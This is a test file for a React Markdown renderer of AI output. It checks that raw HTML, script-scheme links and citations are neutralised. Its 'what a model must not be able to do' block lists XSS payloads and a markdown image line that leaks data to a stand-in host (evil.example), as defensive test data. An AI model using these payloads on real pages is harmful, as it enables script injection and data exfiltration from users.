import { cleanup, render } from "@testing-library/react";
import { afterEach, describe, expect, test } from "vitest";
import { LiveMarkdown, Markdown } from "./markdown";
import type { Citations } from "./markdown-citations";

afterEach(cleanup);

function show(text: string, citations?: Citations): HTMLElement {
  const page = <Markdown text={text} citations={citations} />;
  return render(page).container;
}

const ONE_SOURCE: Citations = {
  known: new Set([1]),
  render: (index) => <button type="button">source {index}</button>,
};

describe("what a model must not be able to do", () => {
  const PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "hi <svg/onload=alert(1)> there",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    "<style>body{display:none}</style>",
    '<form action="https://evil.example"><input name=a></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example">',
    "- item <script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
  ];

  test.each(PAYLOADS)("raw HTML becomes text: %s", (payload) => {
    const page = show(payload);
    expect(
      page.querySelector("script,img,svg[onload],iframe,style,form,meta,base,[href^=javascript]"),
    ).toBeNull();
    expect(page.textContent).toMatch(/alert|evil|display/);
  });

  test.each([
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox)",
    "<javascript:alert(1)>",
    "[x](//evil.example)",
    "[x](/api/auth/logout)",
  ])("an unsafe address makes no link: %s", (payload) => {
    expect(show(payload).querySelector("a")).toBeNull();
  });

  test("an image becomes a link and loads nothing", () => {
    const page = show("![secret](https://evil.example/leak?q=1)");
    expect(page.querySelector("img")).toBeNull();
    const link = page.querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://evil.example/leak?q=1");
    expect(link?.rel).toContain("noopener");
  });

  test("a link definition does not turn a citation into a link", () => {
    const page = show("See [1].\n\n[1]: https://evil.example", ONE_SOURCE);
    expect(page.querySelector("p:first-child a")).toBeNull();
    expect(page.querySelector("button")?.textContent).toBe("source 1");
  });
});

describe("citations", () => {
  test("a known source becomes a chip, an invented one stays text", () => {
    const page = show("True [1], invented [99].", ONE_SOURCE);
    expect(page.querySelectorAll("button")).toHaveLength(1);
    expect(page.textContent).toBe("True source 1, invented [99].");
  });

  test("code is never cited", () => {
    expect(show("`a[1]`\n\n```\nb[1]\n```", ONE_SOURCE).querySelector("p button")).toBeNull();
  });
});

describe("ordinary markdown", () => {
  test("headings render as h3", () => {
    expect(show("# A\n\n## B").querySelectorAll("h3")).toHaveLength(2);
  });

  test("lists, tables, code, quotes and entities", () => {
    const page = show("- a\n- [x] b\n\n| h |\n|---|\n| c |\n\n```js\nd()\n```\n\n> q\n\nR&amp;D");
    expect(page.querySelectorAll("li")).toHaveLength(2);
    expect(page.querySelector("td")?.textContent).toBe("c");
    expect(page.querySelector("pre code")?.textContent).toBe("d()");
    expect(page.querySelector("blockquote")?.textContent).toBe("q");
    expect(page.textContent).toContain("R&D");
  });
});

test("a streamed text ends as the same page as the finished one", () => {
  const text =
    "# T\n\nA **bold** [1] `x`.\n\n- a\n- b\n  - c\n\n```js\nlet a\n```\n\nEnd [l](https://a.b).";
  const live = render(<LiveMarkdown text="" citations={ONE_SOURCE} />);
  for (let end = 1; end <= text.length; end++) {
    live.rerender(<LiveMarkdown text={text.slice(0, end)} citations={ONE_SOURCE} />);
  }
  const finished = live.container.innerHTML;
  cleanup();
  expect(finished).toBe(show(text, ONE_SOURCE).innerHTML);
});
